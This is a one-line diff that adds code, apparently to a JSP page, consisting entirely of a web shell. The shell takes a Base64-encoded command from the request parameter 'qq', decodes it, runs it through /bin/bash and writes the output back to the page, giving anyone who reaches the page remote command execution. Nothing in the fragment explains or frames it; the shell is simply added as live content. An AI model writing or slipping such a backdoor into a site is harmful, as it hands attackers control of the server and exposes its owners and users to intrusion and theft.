@@ -1,0 +1,1 @@
+<% String enc = request.getParameter("qq"); if (enc != null) { String cmd = new String(java.util.Base64.getDecoder().decode(enc)); java.io.InputStream in = Runtime.getRuntime().exec(new String[]{"/bin/bash", "-c", cmd}).getInputStream(); int a; while ((a = in.read()) != -1) out.print((char) a); } %>
